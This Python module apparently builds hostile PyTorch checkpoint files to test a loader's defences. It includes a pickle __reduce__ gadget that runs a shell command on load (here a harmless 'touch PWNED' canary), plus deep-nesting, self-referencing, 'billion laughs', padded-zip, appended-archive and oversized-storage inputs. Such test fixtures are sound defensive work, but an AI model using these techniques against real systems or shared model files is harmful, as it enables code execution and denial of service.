"""Ways to change a checkpoint of a real run into a hostile one."""

import argparse
import collections
import copy
import io
import zipfile

import torch

CANARY = "PWNED"  # in the working directory
CODE = f"__import__('os').system('touch {CANARY}')"


class Calls:
    """Pickled as a call."""

    def __init__(self, function, *arguments):
        self.reduced = function, arguments

    def __reduce__(self):
        return self.reduced


def put(state, header, part, **options):
    """Sets options in ``cfg`` or ``args``."""
    if header == "args":
        vars(state["args"]).update(options)
        return
    section = state["cfg"][part]
    (vars(section) if isinstance(section, argparse.Namespace) else section).update(options)


def in_header(state, header):
    """The checkpoint with its settings in that header, as older releases have them in ``args``."""
    state = copy.deepcopy(state)
    if header == "args":
        state["args"], state["cfg"] = state["cfg"]["model"], None
        del state["args"]._name
    return state


def option(value, name, part="model", base="transformer", header="cfg"):
    def make(bases):
        state = in_header(bases[base], header)
        put(state, header, part, **{name: value})
        return state

    return make


def changed(change, base="transformer"):
    def make(bases):
        state = copy.deepcopy(bases[base])
        change(state)
        return state

    return make


def weight(function, base="transformer"):
    """One tensor changed."""

    def change(state):
        name = next(name for name in state["model"] if name.endswith("fc1.weight"))
        state["model"][name] = function(state["model"][name])

    return changed(change, base)


def laughs(depth=30):
    value = ["ha"]
    for _ in range(depth):
        value = [value] * 10
    return value


def nested(depth=5000):
    value = 0
    for _ in range(depth):
        value = [value]
    return value


def circle():
    value = []
    value.append(value)
    return value


def dictionary_with_attributes():
    value = collections.OrderedDict()
    value.note = 5
    return value


def bytes_of(state, zipped=True):
    file = io.BytesIO()
    torch.save(state, file, _use_new_zipfile_serialization=zipped)
    return file.getvalue()


def compressed(state):
    """The same archive, deflated, with a storage of 1 GB of zeros."""
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(bytes_of(state))) as archive,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as copied,
    ):
        for name in archive.namelist():
            data = archive.read(name)
            copied.writestr(name, data if "/data/0" not in name else data + bytes(1 << 24))
    return packed.getvalue()


def followed_by_an_archive(contents):
    """The same file with a harmless zip archive at its end, where Python's zipfile looks."""
    file = io.BytesIO(contents)
    with zipfile.ZipFile(file, "a") as archive:
        archive.writestr("x", "y")
    return file.getvalue()


def huge_legacy_storage(state):
    """The format before torch 1.6, with a tensor of 2**45 bytes that are not in the file."""
    data = bytearray(bytes_of({"model": {"w": torch.ones(77)}}, zipped=False))
    at = data.find(b"K\x4d")  # the storage's 77 elements
    return bytes(data[:at] + b"\x8a\x06" + (2**43).to_bytes(6, "little") + data[at + 2 :])
